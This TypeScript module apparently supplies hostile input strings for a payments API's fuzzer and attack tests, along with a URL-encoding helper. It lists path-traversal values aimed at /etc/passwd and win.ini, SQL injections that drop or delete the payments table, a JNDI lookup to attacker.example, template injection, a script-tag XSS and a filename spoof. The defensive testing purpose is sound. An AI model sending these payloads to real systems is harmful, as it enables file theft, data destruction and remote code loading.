/**
 * Values an attacker tries in paths, queries, headers and bodies: path traversal, SQL and template injection,
 * encoded NUL, broken percent escapes, very long and non-ASCII text. Shared by the fuzzer and the attack tests.
 */
export const PATH_TRAVERSAL = [
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..\\..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '/etc/passwd',
  '%252e%252e%252f',
  '..',
  '.',
  '%00',
  '%ZZ',
  '%',
  'file:///etc/passwd',
];

export const SQL_INJECTION = [
  "' OR '1'='1",
  "' OR 1=1--",
  "1; DROP TABLE payments;--",
  "'; DELETE FROM payments WHERE '1'='1",
  "1' UNION SELECT payment_id, tpp_id, request FROM payments--",
  '" OR ""="',
  "') OR ('a'='a",
  "1' AND pg_sleep(5)--",
  "1'||(SELECT sqlite_version())||'",
  '\\x27 OR 1=1',
];

export const OTHER_HOSTILE = [
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'a'.repeat(4_000),
  'ø'.repeat(300),
  '\u{1F600}',
  '\u202Egnp.exe',
  ' ',
];

/** Every hostile string, for loops that must try each in each parameter. */
export const HOSTILE_STRINGS: readonly string[] = [...PATH_TRAVERSAL, ...SQL_INJECTION, ...OTHER_HOSTILE];

/** Puts a hostile value into a URL: percent-encoded (the usual case) or as raw as a URL can carry it. */
export function encodeHostile(value: string, raw: boolean): string {
  if (!raw) return encodeURIComponent(value);
  return value.replace(/[\s#?\u0000-\u001F\u007F-\uFFFF]/gu, (c) => encodeURIComponent(c));
}
